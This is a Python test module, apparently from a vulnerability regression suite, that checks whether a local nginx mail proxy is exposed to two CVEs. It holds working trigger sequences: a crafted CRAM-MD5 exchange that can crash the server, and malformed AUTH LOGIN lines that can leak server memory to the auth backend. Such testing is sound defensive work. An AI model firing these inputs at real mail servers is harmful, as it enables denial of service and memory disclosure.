# SPDX-License-Identifier: BSD-2-Clause
"""nginx: rows of the mail proxy, which is a module that the server loads."""
import base64
import time

from corpus.daemon import BAD, FIXED, shows
from corpus.net import Backend, connect

from .nginx_server import Nginx

REFUSAL = b"HTTP/1.0 200 OK\r\nAuth-Status: bad\r\nAuth-Wait: 1\r\n\r\n"


class Mail(Nginx):
    """SMTP, with a backend that is asked who may log in and always says no."""
    modules = ("ngx_mail_module.so",)
    methods = ""

    @property
    def mail(self):
        return ("mail { server_name x; auth_http 127.0.0.1:BACKEND/; smtp_auth " + self.methods +
                "; server { listen 127.0.0.1:PORT; protocol smtp; timeout 5s; } }")

    def prepare(self):
        self.asked = []
        self.backend = Backend(self._refuse)

    def _refuse(self, connection):
        self.asked.append(connection.recv(8192))
        connection.sendall(REFUSAL)

    def dialogue(self):
        """A connection that has said EHLO; a function that says a line and returns the answer."""
        connection = connect(self.port)
        connection.settimeout(4)
        file = connection.makefile("rwb")

        def read():
            try:
                return file.readline()
            except (TimeoutError, ConnectionError):
                return b""

        def speak(line):
            file.write(line + b"\r\n")
            file.flush()
            return read()

        read()
        answer = speak(b"EHLO a")
        while answer[3:4] == b"-":
            answer = read()
        return connection, speak


@shows("nginx", "CVE-2026-27651")
class CramMd5(Mail):
    """After a failed CRAM-MD5 login, a request without a login has a password that is NULL."""
    methods = "cram-md5 none"

    def probe(self):
        connection, speak = self.dialogue()
        answers = []
        with connection:
            try:
                speak(b"AUTH CRAM-MD5")
                answers.append(speak(base64.b64encode(b"user " + b"0" * 32)))
                answers.append(speak(b"MAIL FROM:<a@b>"))
                answers.append(speak(b"RCPT TO:<c@d>"))
            except ConnectionError as error:
                answers.append(repr(error).encode())
        crashed = self.crashed()
        return (BAD, crashed) if crashed else (FIXED, repr(answers[-1]))


@shows("nginx", "CVE-2025-53859")
class LoginLeak(Mail):
    """A login that cannot be decoded sends memory of the server to the backend."""
    methods = "none login plain"

    def probe(self):
        self.asked.clear()
        connection, speak = self.dialogue()
        with connection:
            # The first login sets the length; the next ones leave it on fresh memory.
            for line in (b"AUTH LOGIN " + base64.b64encode(b"L" * 200), b"!!!!",
                         b"AUTH LOGIN " + b"QUFB" * 90 + b"!!!!", b"MAIL FROM:<a@b>",
                         b"RCPT TO:<c@d>"):
                speak(line)
        time.sleep(0.3)
        sent = [line for request in self.asked for line in request.split(b"\r\n")
                if line.startswith(b"Auth-User:")]
        leaked = [line for line in sent if line != b"Auth-User: " + b"L" * 200]
        return (BAD, f"sent to the backend: {leaked[0][:30]!r}") if leaked else (
            FIXED, f"{len(sent)} users sent, as they logged in")
